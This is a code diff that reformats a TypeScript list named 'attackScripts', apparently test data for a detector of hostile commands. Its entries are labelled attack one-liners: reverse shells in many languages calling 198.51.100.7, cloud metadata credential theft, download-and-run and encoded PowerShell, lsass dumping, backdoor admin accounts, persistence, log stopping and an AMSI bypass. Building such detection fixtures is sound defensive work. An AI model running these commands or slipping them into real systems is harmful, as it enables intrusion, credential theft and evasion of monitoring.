@@ -36,37 +36,46 @@ export const attackScripts: readonly AttackScript[] = [
   ['telnet pair', 'telnet 198.51.100.7 4444 | /bin/sh | telnet 198.51.100.7 4445', ['reverse-shell']],
   [
     'python socket and pty',
-    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
+    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) ` +
+      `for f in (0,1,2)];pty.spawn("/bin/sh")'`,
     ['reverse-shell'],
   ],
   [
     'python in a here-document',
-    'python3 - <<EOF\nimport socket,subprocess,os\ns=socket.socket()\ns.connect(("198.51.100.7",4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\nEOF',
+    'python3 - <<EOF\nimport socket,subprocess,os\ns=socket.socket()\ns.connect(("198.51.100.7",' +
+      '4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\nEOF',
     ['reverse-shell'],
   ],
   [
     'a whole python script',
-    '#!/usr/bin/env python3\nimport socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/bash")\n',
+    '#!/usr/bin/env python3\nimport socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.7", ' +
+      '4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/bash")\n',
     ['reverse-shell'],
   ],
   [
     'perl socket',
-    `perl -e 'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");'`,
+    `perl -e 'use ` +
+      'Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($i)));' +
+      'open(STDIN,">&S");exec("/bin/sh ' +
+      `-i");'`,
     ['reverse-shell'],
   ],
   [
     'perl with its program in the option',
-    `perl -MIO -e'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
+    `perl -MIO -e'$p=fork;exit,if($p);$c=new ` +
+      `IO::Socket::INET(PeerAddr,"198.51.100.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
     ['reverse-shell'],
   ],
   [
     'python with its program in the option',
-    `python3 -c'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`,
+    `python3 -c'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));` +
+      `os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`,
     ['reverse-shell'],
   ],
   [
     'ruby with its program in the option',
-    `ruby -rsocket -e'c=TCPSocket.new("198.51.100.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
+    `ruby -rsocket -e'c=TCPSocket.new("198.51.100.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print ` +
+      `io.read}end'`,
     ['reverse-shell'],
   ],
   ['php socket', `php -r '$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, ['reverse-shell']],
@@ -77,12 +86,15 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'node socket',
-    `node -e 'var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh");var k=n.connect(4444,"198.51.100.7");k.pipe(s.stdin);s.stdout.pipe(k)'`,
+    `node -e 'var n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh");var ` +
+      `k=n.connect(4444,"198.51.100.7");k.pipe(s.stdin);s.stdout.pipe(k)'`,
     ['reverse-shell'],
   ],
   [
     'PowerShell TCP client',
-    '$c = New-Object System.Net.Sockets.TCPClient("198.51.100.7",4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String);$s.Write($r,0,$r.Length)}',
+    '$c = New-Object System.Net.Sockets.TCPClient("198.51.100.7",4444);$s = $c.GetStream();[byte[]]$b = ' +
+      '0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName ' +
+      'System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String);$s.Write($r,0,$r.Length)}',
     ['reverse-shell'],
   ],
   ['in a container', 'docker exec web sh -c "nc 198.51.100.7 4444 -e /bin/sh"', ['reverse-shell']],
@@ -95,7 +107,10 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'role credentials with a token',
-    'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")\nROLE=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE',
+    'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: ' +
+      '21600")\nROLE=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" ' +
+      'http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s -H "X-aws-ec2-metadata-token: ' +
+      '$TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE',
     ['metadata-credentials'],
   ],
   [
@@ -105,23 +120,28 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'Azure token by curl',
-    "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
+    "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/" +
+      "token?api-version=2018-02-01&resource=https://management.azure.com/'",
     ['metadata-credentials'],
   ],
   [
     'Azure token by PowerShell',
-    "Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net'",
+    "Invoke-RestMethod -Headers @{Metadata='true'} -Uri " +
+      "'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://" +
+      "vault.azure.net'",
     ['metadata-credentials'],
   ],
   [
     'the identity endpoint',
-    'curl "$IDENTITY_ENDPOINT?resource=https://management.azure.com/&api-version=2019-08-01" -H "X-IDENTITY-HEADER: $IDENTITY_HEADER"',
+    'curl "$IDENTITY_ENDPOINT?resource=https://management.azure.com/&api-version=2019-08-01" -H ' +
+      '"X-IDENTITY-HEADER: $IDENTITY_HEADER"',
     ['metadata-credentials'],
   ],
   ['ECS task role', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', ['metadata-credentials']],
   [
     'python urllib',
-    `python3 -c "import urllib.request as u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').read())"`,
+    'python3 -c "import urllib.request as ' +
+      `u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').read())"`,
     ['metadata-credentials'],
   ],
   ['keys printed by the AWS CLI', 'aws configure export-credentials --format env', ['metadata-credentials']],
@@ -163,12 +183,14 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'Invoke-WebRequest and Start-Process',
-    'Invoke-WebRequest -Uri http://198.51.100.7/a.exe -OutFile C:\\Windows\\Tasks\\a.exe; Start-Process C:\\Windows\\Tasks\\a.exe',
+    'Invoke-WebRequest -Uri http://198.51.100.7/a.exe -OutFile C:\\Windows\\Tasks\\a.exe; Start-Process ' +
+      'C:\\Windows\\Tasks\\a.exe',
     ['download-and-run'],
   ],
   [
     'DownloadFile and the call operator',
-    "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.exe','C:\\ProgramData\\a.exe')\n& C:\\ProgramData\\a.exe",
+    "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.exe','C:\\ProgramData\\a.exe')\n& " +
+      'C:\\ProgramData\\a.exe',
     ['download-and-run'],
   ],
   [
@@ -191,7 +213,8 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'an encoded command',
-    `powershell.exe -NoP -W Hidden -Enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")}`,
+    'powershell.exe -NoP -W Hidden ' +
+      `-Enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")}`,
     ['download-and-run'],
   ],
   ['base64 to sh', `echo ${base64('curl -s http://198.51.100.7/x | sh')} | base64 -d | sh`, ['download-and-run']],
@@ -220,7 +243,8 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'an Automation certificate',
-    "$cert = Get-AutomationCertificate -Name 'AzureRunAsCertificate'\n$bytes = $cert.Export('pfx')\n[Convert]::ToBase64String($bytes)",
+    "$cert = Get-AutomationCertificate -Name 'AzureRunAsCertificate'\n$bytes = " +
+      "$cert.Export('pfx')\n[Convert]::ToBase64String($bytes)",
     ['credential-files'],
   ],
   [
@@ -236,7 +260,8 @@ export const attackScripts: readonly AttackScript[] = [
   ['lsass by procdump', 'procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\l.dmp', ['credential-files']],
   [
     'clear-text logins switched on',
-    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
+    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t ' +
+      'REG_DWORD /d 1 /f',
     ['credential-files'],
   ],
   ['the domain database', 'ntdsutil "ac i ntds" "ifm" "create full c:\\programdata\\n" q q', ['credential-files']],
@@ -258,7 +283,8 @@ export const attackScripts: readonly AttackScript[] = [
   ['carets and percent variables', 'set a=net&& set b=user&& %a% %b% s^u^p^p^o^r^t Passw0rd!234 /add', ['new-account']],
   [
     'New-LocalUser',
-    "New-LocalUser -Name support -Password (ConvertTo-SecureString 'Passw0rd!234' -AsPlainText -Force)\nAdd-LocalGroupMember -Group Administrators -Member support",
+    "New-LocalUser -Name support -Password (ConvertTo-SecureString 'Passw0rd!234' -AsPlainText " +
+      '-Force)\nAdd-LocalGroupMember -Group Administrators -Member support',
     ['new-account'],
   ],
   ['useradd in sudo', 'useradd -m -s /bin/bash -G sudo support', ['new-account']],
@@ -288,12 +314,14 @@ export const attackScripts: readonly AttackScript[] = [
   ['a crontab from a temporary file', 'crontab /tmp/c', ['persistence']],
   [
     'a unit that runs a temporary file',
-    'cat > /etc/systemd/system/sync.service <<EOF\n[Service]\nExecStart=/bin/bash /var/tmp/s.sh\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl enable --now sync',
+    'cat > /etc/systemd/system/sync.service <<EOF\n[Service]\nExecStart=/bin/bash ' +
+      '/var/tmp/s.sh\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl enable --now sync',
     ['persistence'],
   ],
   [
     'a task with encoded PowerShell',
-    `schtasks /create /tn Updater /tr "powershell -w hidden -enc ${utf16Base64('Start-Sleep 1')}" /sc minute /mo 30 /ru SYSTEM`,
+    `schtasks /create /tn Updater /tr "powershell -w hidden -enc ${utf16Base64('Start-Sleep 1')}" /sc minute ` +
+      '/mo 30 /ru SYSTEM',
     ['persistence'],
   ],
   [
@@ -308,7 +336,8 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'a run key by cmdlet',
-    "New-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value 'C:\\ProgramData\\u.exe'",
+    "New-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value " +
+      "'C:\\ProgramData\\u.exe'",
     ['persistence'],
   ],
   [
@@ -342,7 +371,8 @@ export const attackScripts: readonly AttackScript[] = [
   ['the trail stopped', 'aws cloudtrail stop-logging --name main', ['cover-up']],
   [
     'script scanning off',
-    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic," +
+      "Static').SetValue($null,$true)",
     ['cover-up'],
   ],
 
@@ -373,12 +403,14 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'the SSM agent on Windows',
-    '& "C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe" -register -code abc -id 00000000-0000-0000-0000-000000000001 -region us-east-1',
+    '& "C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe" -register -code abc -id ' +
+      '00000000-0000-0000-0000-000000000001 -region us-east-1',
     ['agent-hijack'],
   ],
   [
     'Arc bound to a tenant',
-    'azcmagent connect --tenant-id 00000000-0000-0000-0000-000000000002 --subscription-id 00000000-0000-0000-0000-000000000003 --resource-group r --location westeurope',
+    'azcmagent connect --tenant-id 00000000-0000-0000-0000-000000000002 --subscription-id ' +
+      '00000000-0000-0000-0000-000000000003 --resource-group r --location westeurope',
     ['agent-hijack'],
   ],
 
@@ -390,7 +422,8 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'commands for other machines',
-    'aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:Env,Values=prod --parameters commands=id',
+    'aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:Env,Values=prod --parameters ' +
+      'commands=id',
     ['cloud-control'],
   ],
   [
@@ -403,7 +436,10 @@ export const attackScripts: readonly AttackScript[] = [
   // Real payloads of public test tools, as the landscape lists them
   [
     'PowerZure runbook',
-    '$connection = Get-AutomationConnection -Name AzureRunAsConnection\nAdd-AzureRmAccount -ServicePrincipal -Tenant $connection.TenantID -ApplicationId $connection.ApplicationID -CertificateThumbprint $connection.CertificateThumbprint\nNew-Item C:\\temp\\test.ps1\nInvoke-AzureRmVMRunCommand -ResourceGroupName r -VMName v -CommandId RunPowerShellScript -ScriptPath C:\\temp\\test.ps1',
+    '$connection = Get-AutomationConnection -Name AzureRunAsConnection\nAdd-AzureRmAccount -ServicePrincipal ' +
+      '-Tenant $connection.TenantID -ApplicationId $connection.ApplicationID -CertificateThumbprint ' +
+      '$connection.CertificateThumbprint\nNew-Item C:\\temp\\test.ps1\nInvoke-AzureRmVMRunCommand ' +
+      '-ResourceGroupName r -VMName v -CommandId RunPowerShellScript -ScriptPath C:\\temp\\test.ps1',
     ['credential-files', 'cloud-control'],
   ],
   ['MicroBurst encryption', "Protect-CmsMessage -To 'cn=microburst' -Content $secret", ['known-tool']],
@@ -485,7 +521,8 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'FromBase64String',
-    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('net user support Passw0rd!234 /add')}')))`,
+    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('` +
+      `${base64('net user support Passw0rd!234 /add')}')))`,
     ['new-account'],
   ],
   [
@@ -503,7 +540,8 @@ export const attackScripts: readonly AttackScript[] = [
   ],
   [
     'a document in YAML',
-    'schemaVersion: "2.2"\nmainSteps:\n- action: aws:runShellScript\n  name: run\n  inputs:\n    runCommand:\n    - echo start\n    - cat /etc/shadow\n',
+    'schemaVersion: "2.2"\nmainSteps:\n- action: aws:runShellScript\n  name: run\n  inputs:\n    runCommand:\n   ' +
+      ' - echo start\n    - cat /etc/shadow\n',
     ['credential-files'],
   ],
 ]
